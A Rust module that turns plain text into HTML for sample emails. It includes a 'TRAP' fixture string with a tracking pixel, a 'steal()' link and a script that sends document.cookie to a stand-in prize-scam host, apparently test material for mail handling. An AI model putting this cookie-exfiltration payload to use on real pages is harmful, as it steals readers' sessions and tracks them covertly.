//! Plain text as HTML, the way mail programs and the provider's editor write it.

/// Writes paragraphs, or lines with breaks between them.
pub(super) fn html(text: &str, in_paragraphs: bool) -> String {
    let paragraphs = text
        .split("\n\n")
        .map(|paragraph| escape(paragraph).replace('\n', "<br>"));
    let paragraphs: Vec<String> = paragraphs.collect();
    if in_paragraphs {
        format!("<p>{}</p>", paragraphs.join("</p><p>"))
    } else {
        paragraphs.join("<br><br>")
    }
}

/// What some mails carry below their text: the case, the position of the entry, the HTML.
pub(super) fn decoration(case: u32, position: usize) -> &'static str {
    match (case, position) {
        (1, 0) => SIGNATURE,
        (3, 3) => TABLE,
        (4, 0) => TRAP,
        _ => "",
    }
}

const SIGNATURE: &str = "<div class=\"signature\"><img src=\"https://www.mail.example/signatures/zoe.png\" width=\"320\" height=\"80\" alt=\"Zoë Lambert\"></div>";

const TABLE: &str = "<table style=\"border:1px solid #ccc\"><thead><tr><th>Date</th><th>Charge</th></tr></thead><tbody><tr><td>1 November</td><td>€ 19.90</td></tr><tr><td>3 November</td><td>€ 19.90</td></tr></tbody></table>";

const TRAP: &str = "<img src=\"https://pixel.golden-prizes.example/open.gif?to=help\" width=\"1\" height=\"1\"><a href=\"javascript:steal()\" onclick=\"steal()\">Claim it</a><script>document.location=\"https://golden-prizes.example/?\"+document.cookie</script>";

fn escape(text: &str) -> String {
    let text = text
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    text.replace('"', "&quot;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paragraphs_and_lines_become_html() {
        let text = "a < b\n\n- \"c\"\n- d & e";
        assert_eq!(
            html(text, true),
            "<p>a &lt; b</p><p>- &quot;c&quot;<br>- d &amp; e</p>"
        );
        assert_eq!(
            html(text, false),
            "a &lt; b<br><br>- &quot;c&quot;<br>- d &amp; e"
        );
    }
}
